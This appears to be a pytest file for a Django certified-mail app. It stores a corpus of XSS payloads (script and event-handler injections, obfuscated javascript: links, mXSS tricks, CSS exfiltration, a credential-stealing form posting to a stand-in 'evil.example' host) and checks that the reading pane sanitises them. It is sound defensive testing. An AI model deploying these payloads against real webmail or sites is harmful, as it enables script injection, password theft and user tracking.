"""An XSS corpus delivered as real stored messages and opened through the reading pane.

The browser test (tests/browser/test_mail_xss.py) opens the same corpus in Chromium.
"""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from tests.mail.ui_factories import store

EVIL = "evil.example"

# (name, HTML body) — each is the whole HTML part of one message.
HTML_PAYLOADS: list[tuple[str, str]] = [
    ("script", "<p>hi</p><script>alert(1)</script>"),
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("body-onload", "<body onload=alert(1)><p>x</p></body>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary></details>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>"),
    ("js-href", '<a href="javascript:alert(1)">click</a>'),
    ("js-href-case", '<a href="JaVaScRiPt:alert(1)">click</a>'),
    ("js-href-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
    ("js-href-newline", '<a href="java\nscript:alert(1)">click</a>'),
    (
        "js-href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    ),
    ("js-href-leading-space", '<a href=" &#14;  javascript:alert(1)">click</a>'),
    ("vbscript-href", '<a href="vbscript:msgbox(1)">click</a>'),
    ("data-html-href", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">click</a>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s /></svg>"),
    (
        "svg-set",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x=20 y=20>click</text></a></svg>',
    ),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    ("svg-script", '<svg><script href="data:,alert(1)"/></svg>'),
    (
        "mathml-href",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK</maction></math>',
    ),
    (
        "mathml-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("css-import", f"<style>@import 'https://{EVIL}/x.css';</style><p>styled</p>"),
    ("css-url", f'<div style="background:url(https://{EVIL}/x.png)">bg</div>'),
    ("css-var", f'<div style="--x:url(https://{EVIL}/v.png);background-image:var(--x)">var</div>'),
    (
        "css-position-fixed",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">overlay</div>',
    ),
    (
        "css-expression-binding",
        f'<div style="width:expression(alert(1));-moz-binding:url(https://{EVIL}/x.xml#x);behavior:url(x.htc)">b</div>',
    ),
    ("css-image-set", f"<p style=\"background-image:image-set('https://{EVIL}/x.png' 1x)\">set</p>"),
    ("base", f'<base href="https://{EVIL}/"><a href="x">relative</a>'),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">'),
    ("link-stylesheet", f'<link rel="stylesheet" href="https://{EVIL}/x.css">'),
    (
        "form",
        f'<form action="https://{EVIL}/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
    ),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("textarea-mxss", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("comment-mxss", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'),
    ("embed-js", '<embed src="javascript:alert(1)">'),
    ("img-svg-data", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">'),
    ("remote-image", f'<img src="https://{EVIL}/track.gif" alt="tracker">'),
    ("img-srcset", f'<img srcset="https://{EVIL}/1x.png 1x" src="https://{EVIL}/0.png">'),
    (
        "table-background",
        f'<table background="https://{EVIL}/t.png"><tr><td background="javascript:alert(1)">t</td></tr></table>',
    ),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
]

# Headers and names: shown by the app itself, so they must come out escaped.
HEADER_PAYLOADS: list[tuple[str, dict]] = [
    ("subject", {"subject": "<script>alert('subject')</script><img src=x onerror=alert(2)>"}),
    ("display-name", {"sender": '"<img src=x onerror=alert(3)>" <evil@example.org>'}),
    (
        "filename",
        {
            "attachments": [
                ('"><img src=x onerror=alert(4)>.pdf', "application/pdf", b"%PDF-1.4"),
                ("<script>alert(5)</script>.html", "text/html", b"<script>alert(6)</script>"),
            ]
        },
    ),
    (
        "plain-text",
        {"text": '<script>alert(7)</script> javascript:alert(8) https://ok.example/"onmouseover=alert(9)'},
    ),
]


def store_corpus(mailbox) -> list:
    """Every payload of the corpus as one message in ``mailbox``'s Inbox."""
    messages = []
    for name, html in HTML_PAYLOADS:
        messages.append(store(mailbox, subject=f"xss {name}", text=f"text part of {name}", html=html))
    for name, kwargs in HEADER_PAYLOADS:
        kwargs = dict(kwargs)
        kwargs.setdefault("subject", f"xss {name}")
        kwargs.setdefault("html", "<p>header payload</p>")
        messages.append(store(mailbox, **kwargs))
    return messages


def test_it_has_at_least_thirty_payloads():
    assert len(HTML_PAYLOADS) + len(HEADER_PAYLOADS) >= 30


def frame_body(html: str) -> str:
    return html[html.index("<body>") : html.rindex("</body>")]


DANGEROUS = [
    re.compile(
        r"<\s*(script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|textarea|noscript|template|xmp|isindex|video|audio|details)\b",
        re.I,
    ),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"(href|src|action|background|srcset)\s*=\s*[\"']?\s*(javascript|vbscript|data:text)", re.I),
    re.compile(
        r"url\s*\(|var\s*\(|expression\s*\(|image-set|@import|position\s*:\s*fixed|-moz-binding|behavior",
        re.I,
    ),
    re.compile(re.escape(EVIL)),
]


@pytest.mark.parametrize(("name", "html"), HTML_PAYLOADS, ids=[n for n, _ in HTML_PAYLOADS])
def test_it_serves_each_html_payload_harmless(alice_client, alice, name, html):
    message = store(alice, subject=f"xss {name}", text="t", html=html)
    response = alice_client.get(reverse("mail:body", args=[message.pk]))
    assert response.status_code == 200
    body = frame_body(response.content.decode())
    for pattern in DANGEROUS:
        assert pattern.search(body) is None, (name, pattern.pattern, body)
    assert "script-src" not in response["Content-Security-Policy"]
    page = alice_client.get(reverse("mail:read", args=[message.pk])).content.decode()
    # The raw HTML never reaches the app's own page.
    assert html not in page


@pytest.mark.parametrize(("name", "kwargs"), HEADER_PAYLOADS, ids=[n for n, _ in HEADER_PAYLOADS])
def test_it_escapes_hostile_headers_names_and_text(alice_client, alice, name, kwargs):
    message = store(alice, **{"subject": f"xss {name}", **kwargs})
    for url in (reverse("mail:index"), reverse("mail:read", args=[message.pk])):
        page = alice_client.get(url).content.decode()
        assert re.search(r"<script>alert|<img src=x onerror", page) is None, (name, url)
        assert re.search(r"\sonmouseover=", page) is None, (name, url)
        assert 'href="javascript' not in page


def test_it_downloads_a_hostile_html_attachment_inert(alice_client, alice):
    name, kwargs = HEADER_PAYLOADS[2]
    message = store(alice, subject="files", **kwargs)
    response = alice_client.get(reverse("mail:attachment", args=[message.pk, 1]))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


def test_it_sanitises_a_hostile_pec_delivered_through_the_pipeline(
    client, alice, bob, provider, django_capture_on_commit_callbacks
):
    """The whole corpus in one certified message: the reader shows its postacert.eml, cleaned."""
    from pecmail.mail import services
    from pecmail.mail.models import Message

    with django_capture_on_commit_callbacks(execute=True):
        services.message_submit(
            mailbox=alice,
            to=[bob.address],
            cc=[],
            subject="<script>alert('pec')</script>",
            body_text="text",
            body_html="".join(html for _name, html in HTML_PAYLOADS),
            attachments=[('"><img src=x onerror=alert(1)>.html', "text/html", b"<script>alert(1)</script>")],
        )
    received = Message.objects.get(mailbox=bob, kind=Message.Kind.CERTIFIED)
    client.force_login(bob.owner)
    page = client.get(reverse("mail:read", args=[received.pk])).content.decode()
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "Certified data" in page
    body = frame_body(client.get(reverse("mail:body", args=[received.pk])).content.decode())
    for pattern in DANGEROUS:
        assert pattern.search(body) is None, (pattern.pattern, body)
